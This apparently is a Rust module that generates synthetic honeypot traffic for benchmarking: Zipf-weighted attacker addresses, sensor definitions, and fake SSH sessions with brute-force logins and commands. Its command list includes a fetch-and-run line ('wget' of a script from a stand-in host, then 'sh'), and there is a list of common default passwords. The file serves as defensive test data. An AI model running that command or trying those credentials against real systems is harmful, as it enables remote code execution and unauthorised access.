//! Realistic synthetic traffic: attacker addresses drawn Zipf-like from a fixed pool (a few addresses send most
//! sessions, as on a real honeynet), and sessions made of the event kinds and counts sensors actually publish.

use std::net::{IpAddr, Ipv4Addr, Ipv6Addr};

use chrono::{DateTime, Utc};
use event::{AuthMethod, Event, FileInfo, Kind};
use rand::rngs::StdRng;
use rand::{Rng, SeedableRng};

/// Zipf exponent: rank r is drawn with weight 1 / r^s.
const ZIPF_S: f64 = 1.0;
/// Usernames attackers try most.
const USERS: [&str; 8] = ["root", "admin", "user", "test", "ubuntu", "oracle", "pi", "support"];
/// Passwords attackers try most.
pub const PASSWORDS: [&str; 10] = [
    "123456",
    "password",
    "admin",
    "root",
    "12345678",
    "qwerty",
    "1234",
    "test",
    "raspberry",
    "P@ssw0rd",
];
/// Commands attackers run first.
const COMMANDS: [&str; 6] = [
    "uname -a",
    "cat /proc/cpuinfo | grep name | wc -l",
    "cd /tmp; wget http://203.0.113.7/x.sh; sh x.sh",
    "free -m",
    "echo -e \"\\x6F\\x6B\"",
    "ls -la /var/run/gcc.pid",
];
/// Sensors, with the protocol and port each one serves.
pub const SENSORS: [(&str, &str, u16); 5] = [
    ("ssh-eu-1", "ssh", 22),
    ("ssh-us-1", "ssh", 2222),
    ("telnet-eu-1", "telnet", 23),
    ("http-as-1", "http", 80),
    ("ssh-as-1", "ssh", 22),
];
/// Countries the prefill assigns, with repetition as weight (CN most, as in real honeynet data).
const COUNTRIES: [&str; 12] = ["CN", "CN", "CN", "US", "US", "RU", "BR", "IN", "VN", "DE", "KR", "NL"];

/// A pool of attacker addresses and the cumulative Zipf weights to draw from it.
#[derive(Debug)]
pub struct IpPool {
    /// Addresses, rank 0 the heaviest.
    pub ips: Vec<IpAddr>,
    /// Cumulative weights, normalized to end at 1.
    cdf: Vec<f64>,
}

impl IpPool {
    /// `v4` random public-looking IPv4 addresses and `v6` IPv6 ones (interleaved by rank), from `seed`.
    pub fn new(v4: usize, v6: usize, seed: u64) -> IpPool {
        let mut rng = StdRng::seed_from_u64(seed);
        let n = v4 + v6;
        let every_v6 = n.checked_div(v6).unwrap_or(usize::MAX);
        let mut ips = Vec::with_capacity(n);
        for i in 0..n {
            if i % every_v6 == every_v6 - 1 {
                let a: u64 = rng.random();
                ips.push(IpAddr::V6(Ipv6Addr::new(
                    0x2001,
                    0x0db8,
                    (a >> 48) as u16,
                    (a >> 32) as u16,
                    (a >> 16) as u16,
                    a as u16,
                    0,
                    1,
                )));
            } else {
                // First octet 1..=223, skipping 10, 127 and 192 (private, loopback, assorted special ranges).
                let mut first: u8 = rng.random_range(1..=223);
                if matches!(first, 10 | 127 | 192) {
                    first += 1;
                }
                ips.push(IpAddr::V4(Ipv4Addr::new(
                    first,
                    rng.random(),
                    rng.random(),
                    rng.random(),
                )));
            }
        }
        let mut cdf = Vec::with_capacity(n);
        let mut sum = 0.0;
        for r in 1..=n {
            sum += 1.0 / (r as f64).powf(ZIPF_S);
            cdf.push(sum);
        }
        for c in &mut cdf {
            *c /= sum;
        }
        IpPool { ips, cdf }
    }

    /// One address, heavy ones far more often.
    pub fn draw(&self, rng: &mut StdRng) -> IpAddr {
        let u: f64 = rng.random();
        let i = self
            .cdf
            .partition_point(|&c| c < u)
            .min(self.ips.len().saturating_sub(1));
        self.ips
            .get(i)
            .copied()
            .unwrap_or(IpAddr::V4(Ipv4Addr::new(198, 51, 100, 1)))
    }
}

/// The country the prefill gives an address: fixed per address, CN for about a quarter of them.
fn country_of(ip: IpAddr) -> &'static str {
    let h = match ip {
        IpAddr::V4(a) => u32::from(a).wrapping_mul(2_654_435_761),
        IpAddr::V6(a) => (u128::from(a) as u32).wrapping_mul(2_654_435_761),
    };
    COUNTRIES[(h >> 16) as usize % COUNTRIES.len()]
}

/// `event` as the store gets it straight from the bench (prefill, `bench store`): received when it happened, on
/// our channel, with the country the prefill gives its address.
pub fn record(event: Event) -> store::Record {
    store::Record {
        received: event.ts,
        channel: event::CHANNEL_EVENTS.into(),
        ident: "bench".into(),
        geo: store::Geo {
            country: Some(country_of(event.src_ip).into()),
            ..store::Geo::default()
        },
        event,
    }
}

/// Makes sessions' events; one per publisher or prefill task.
#[derive(Debug)]
pub struct SessionGen {
    /// Random source.
    pub rng: StdRng,
    /// Tag making session ids unique across generators.
    tag: u32,
    /// Sessions made so far.
    n: u64,
}

impl SessionGen {
    /// A generator whose session ids carry `tag`.
    pub fn new(tag: u32, seed: u64) -> SessionGen {
        SessionGen {
            rng: StdRng::seed_from_u64(seed),
            tag,
            n: 0,
        }
    }

    /// The envelope of one new session: sensor, ids, addresses.
    fn envelope(&mut self, pool: &IpPool, ts: DateTime<Utc>) -> Event {
        self.n += 1;
        let (sensor, proto, port) = SENSORS[self.rng.random_range(0..SENSORS.len())];
        Event {
            id: event::id::new_id(),
            ts,
            sensor: sensor.into(),
            honeypot: if proto == "http" { "apiary-http" } else { "apiary-ssh" }.into(),
            session: format!("{:08x}{:010x}", self.tag, self.n),
            proto: proto.into(),
            src_ip: pool.draw(&mut self.rng),
            src_port: self.rng.random_range(1024..=65535),
            dst_ip: None,
            dst_port: port,
            kind: Kind::Command {
                input: String::new(),
                recognized: true,
            },
        }
    }

    /// A copy of `base` with a fresh id and the given kind.
    fn with(base: &Event, kind: Kind) -> Event {
        Event {
            id: event::id::new_id(),
            kind,
            ..base.clone()
        }
    }

    fn auth(&mut self) -> Kind {
        Kind::Auth {
            username: USERS[self.rng.random_range(0..USERS.len())].into(),
            password: Some(PASSWORDS[self.rng.random_range(0..PASSWORDS.len())].into()),
            key_fingerprint: None,
            method: AuthMethod::Password,
            success: self.rng.random_bool(0.2),
        }
    }

    fn command(&mut self) -> Kind {
        Kind::Command {
            input: COMMANDS[self.rng.random_range(0..COMMANDS.len())].into(),
            recognized: true,
        }
    }

    /// A live session as a sensor publishes it: start, 3 auth, 2 commands, a download 1 time in 10, end.
    pub fn live_session(&mut self, pool: &IpPool, out: &mut Vec<Event>) {
        let base = self.envelope(pool, Event::now());
        out.push(Self::with(
            &base,
            Kind::SessionStart {
                client_version: Some("SSH-2.0-Go".into()),
                hassh: Some("ec7378c1a92f5a8dde7e8b7a1ddf33d1".into()),
                hassh_algorithms: None,
            },
        ));
        for _ in 0..3 {
            let k = self.auth();
            out.push(Self::with(&base, k));
        }
        for _ in 0..2 {
            let k = self.command();
            out.push(Self::with(&base, k));
        }
        if self.rng.random_bool(0.1) {
            let h: u128 = self.rng.random();
            out.push(Self::with(
                &base,
                Kind::FileDownload(FileInfo {
                    url: Some("http://203.0.113.7/x.sh".into()),
                    filename: Some("x.sh".into()),
                    sha256: Some(format!("{h:032x}{h:032x}")),
                    md5: None,
                    sha1: None,
                    size: self.rng.random_range(100..100_000),
                    mime: Some("text/x-shellscript".into()),
                    stored: false,
                    reason: Some("bench".into()),
                }),
            ));
        }
        out.push(Self::with(
            &base,
            Kind::SessionEnd {
                duration_ms: self.rng.random_range(100..60_000),
                bytes_in: self.rng.random_range(100..10_000),
                bytes_out: self.rng.random_range(100..10_000),
                reason: "client closed".into(),
                recordings: Vec::new(),
            },
        ));
    }

    /// A stored session for the prefill, at `ts`: start, one auth, and a command 1 time in 5.
    pub fn past_session(&mut self, pool: &IpPool, ts: DateTime<Utc>, out: &mut Vec<Event>) {
        let base = self.envelope(pool, ts);
        out.push(Self::with(
            &base,
            Kind::SessionStart {
                client_version: Some("SSH-2.0-Go".into()),
                hassh: None,
                hassh_algorithms: None,
            },
        ));
        let k = self.auth();
        out.push(Self::with(&base, k));
        if self.rng.random_bool(0.2) {
            let k = self.command();
            out.push(Self::with(&base, k));
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn pool_draws_heavy_ranks_most() {
        let pool = IpPool::new(1000, 10, 1);
        assert_eq!(pool.ips.len(), 1010);
        assert_eq!(pool.ips.iter().filter(|i| i.is_ipv6()).count(), 10);
        let mut rng = StdRng::seed_from_u64(2);
        let top = pool.ips[0];
        let hits = (0..10_000).filter(|_| pool.draw(&mut rng) == top).count();
        // Rank 1 of 1010 with s = 1 has weight 1/H(1010), about 13 %.
        assert!((1000..1700).contains(&hits), "{hits}");
    }

    #[test]
    fn live_session_has_the_mix() {
        let pool = IpPool::new(100, 0, 1);
        let mut g = SessionGen::new(1, 3);
        let mut out = Vec::new();
        for _ in 0..100 {
            g.live_session(&pool, &mut out);
        }
        let auths = out.iter().filter(|e| matches!(e.kind, Kind::Auth { .. })).count();
        assert_eq!(auths, 300);
        let ends = out.iter().filter(|e| matches!(e.kind, Kind::SessionEnd { .. })).count();
        assert_eq!(ends, 100);
        assert!(out.len() >= 700 && out.len() <= 800, "{}", out.len());
        let first = out.first().map(Event::to_json).unwrap_or_default();
        assert!(Event::from_json(first.as_bytes()).is_ok());
    }
}
